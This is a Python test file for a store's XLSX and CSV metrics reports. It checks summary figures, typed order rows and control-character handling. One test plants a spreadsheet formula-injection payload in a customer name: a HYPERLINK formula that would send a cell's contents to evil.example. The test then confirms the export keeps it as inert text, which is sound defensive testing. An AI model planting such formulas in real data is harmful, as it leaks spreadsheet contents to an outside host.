"""The report workbook: the digest's figures with definitions, and typed, formula-safe rows
ready for a PivotTable, on the hand-built desk."""

import io
from datetime import UTC, datetime

import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from sqlalchemy import update

from store.metrics.digest import build_digest
from store.metrics.export import ORDER_HEADER, orders_csv
from store.metrics.workbook import report_xlsx
from store.models import Customer
from store.periods import period_containing
from tests.support.export_sums import read_csv
from tests.support.metrics_desk import WEEK_START, build_desk

WEEK = period_containing("weekly", WEEK_START)
BUILT = datetime(2026, 11, 9, 8, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def book(db):
    build_desk(db)
    export = report_xlsx(db, period=WEEK, timezone="UTC", now=BUILT)
    assert export.filename == "report-weekly-2026-11-02-to-2026-11-08.xlsx"
    return openpyxl.load_workbook(io.BytesIO(export.content))


def summary(book) -> dict:
    return {row[0].value: row for row in book["Summary"].iter_rows() if row[0].value}


def test_the_summary_has_every_figure_of_both_periods_with_its_definition(db, book):
    view = build_digest(db, period=WEEK, timezone="UTC", now=BUILT)
    rows = summary(book)
    assert book.sheetnames == ["Summary", "Days", "Orders", "Discrepancies"]
    assert (rows["Orders received"][1].value, rows["Orders received"][2].value) == (8, 3)
    on_time = rows["On time"][1]
    assert on_time.value == pytest.approx(view.current.on_time_rate)
    assert on_time.number_format == "0.0%"
    assert rows["Past due at the end"][1].value == 2
    assert rows["Value received, USD"][1].value == pytest.approx(99.0)
    assert rows["Value received, USD"][1].number_format == "#,##0.00"
    assert "last unit shipped" in rows["In full on time (OTIF)"][3].value
    assert rows["Cycle time, median (h)"][1].value == 24.0


def test_the_orders_sheet_is_typed_and_ready_for_a_pivot_table(book):
    sheet = book["Orders"]
    header = [c.value for c in sheet[1]]
    last = get_column_letter(len(ORDER_HEADER))
    assert header == list(ORDER_HEADER)
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
    assert sheet.max_row == 12  # the header and the CSV's 11 orders
    o1 = {h: c for h, c in zip(header, next(r for r in sheet.iter_rows(min_row=2)
                                            if r[0].value == "SO-P1"), strict=True)}
    assert o1["ordered_at_utc"].value == datetime(2026, 10, 27, 10)
    assert o1["ordered_on"].value == datetime(2026, 10, 27)  # a date cell
    assert o1["ordered_on"].number_format == "yyyy-mm-dd"
    assert o1["value"].value == 10 and o1["value"].number_format == "#,##0.00"
    assert o1["returned_in_period"].value is True and o1["lines"].value == 1
    assert o1["status"].value == "completed"


def test_text_that_looks_like_a_formula_stays_text(db):
    build_desk(db)
    with db.write() as s:
        s.execute(update(Customer).where(Customer.code == "ACME").values(name=EVIL))
    book = openpyxl.load_workbook(io.BytesIO(
        report_xlsx(db, period=WEEK, timezone="UTC", now=BUILT).content))
    names = [r[2] for r in book["Orders"].iter_rows(min_row=2) if r[1].value == "ACME"]
    assert names and all(c.value == EVIL and c.data_type == "s" and c.quotePrefix
                         for c in names)
    rows = read_csv(orders_csv(db, period=WEEK, timezone="UTC").content)
    assert {r["customer_name"] for r in rows if r["customer_code"] == "ACME"} == {"'" + EVIL}


def test_the_days_sheet_holds_the_charts_numbers(book):
    days = [[c.value for c in row] for row in book["Days"].iter_rows(min_row=2)]
    assert [d[0].date() for d in days] == WEEK.days
    assert [(d[1], d[2]) for d in days] == [(1, 1), (2, 1), (1, 1), (1, 0), (1, 0), (1, 0),
                                             (1, 1)]
    assert days[0][3] == 1.0 and days[3][3] == 0.0


def test_a_control_character_in_a_name_does_not_break_the_workbook(db):
    """An ESC in one customer's name (the import refuses only NUL) made openpyxl refuse the
    cell, and every report of a period with that customer was "an unexpected error"."""
    build_desk(db)
    with db.write() as s:
        s.execute(update(Customer).where(Customer.code == "ACME").values(name="Acme\x1b\x07 Corp"))
    book = openpyxl.load_workbook(io.BytesIO(
        report_xlsx(db, period=WEEK, timezone="UTC", now=BUILT).content))
    names = {r[2].value for r in book["Orders"].iter_rows(min_row=2) if r[1].value == "ACME"}
    assert names == {"Acme Corp"}
